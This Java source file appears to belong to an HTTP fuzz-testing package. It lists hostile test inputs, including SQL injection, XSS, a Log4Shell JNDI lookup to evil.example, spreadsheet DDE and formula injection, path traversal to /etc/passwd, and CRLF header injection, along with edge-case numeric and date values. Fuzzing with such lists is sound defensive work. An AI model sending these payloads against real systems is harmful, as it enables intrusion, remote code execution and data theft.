package dev.pulse.agent.http.fuzz;

import java.util.List;

/** Texts that have broken somebody's server, database, page, spreadsheet or terminal. */
final class HostileText {

  /** What stands for names, values and words. Each character is one byte. */
  static final List<String> WORDS =
      List.of(
          "",
          "x",
          "nightly report",
          "' OR '1'='1",
          "'; DROP TABLE execution; --",
          "\" UNION SELECT * FROM job --",
          "%' ESCAPE '\\",
          "NEAR(a b, 99999999)",
          "\"*\" AND (",
          "*:* ^ \" {",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "=HYPERLINK(\"http://evil.example\")",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "${jndi:ldap://evil.example/a}",
          "{{7*7}}",
          "%s%n%1$999999999d",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "a\u001b[31mred\u001b]0;title\u0007",
          "a\r\nSet-Cookie: pulse_token=x",
          "a\u0000b",
          "\u00ed\u00a0\u0080",
          "\u00e2\u0080\u00ae\u00f0\u009f\u009a\u0080",
          "\u00c0\u00af",
          "\u00ff\u00fe\u00fd",
          "A".repeat(300),
          "%".repeat(500),
          "_".repeat(2_000),
          "a ".repeat(1_000));

  /** What stands for numbers, times, sizes and the like. */
  static final List<String> VALUES =
      List.of(
          "0",
          "-1",
          "1",
          "20",
          "+7",
          "1e9",
          "0x10",
          "NaN",
          "2147483648",
          "9223372036854775807",
          "-9223372036854775808",
          "9".repeat(4_000),
          "true",
          "null",
          "[]",
          "-24h",
          "-999999w",
          "-0s",
          "2026-11-23T02:00:00Z",
          "2026-11-23T02:00:00%2B18:00",
          "%2B999999999-12-31T23:59:59Z",
          "-999999999-01-01T00:00:00Z",
          "0000-01-01T00:00:00Z",
          "9999-12-31T23:59:59.999999999Z",
          "2026-02-30T25:61:61Z",
          "PT1H",
          "PT-9999999999999999H",
          "day",
          "hour",
          "Europe/Berlin",
          "%2B18:00",
          "../../etc/localtime",
          "running",
          "completed,failed",
          "failed",
          "started_at",
          "-duration_ms",
          "asc",
          "ERROR",
          "stderr",
          "AAAA",
          "eyJ2IjoxfQ==",
          "MjAyNi0xMS0yM3xQWF8x");

  private HostileText() {}

  /** Escaped as a query wants it, byte by byte. */
  static String encoded(String text) {
    StringBuilder encoded = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (Character.isLetterOrDigit(c) && c < 0x80) {
        encoded.append(c);
      } else {
        encoded.append('%').append("%02x".formatted((int) c));
      }
    }
    return encoded.toString();
  }
}
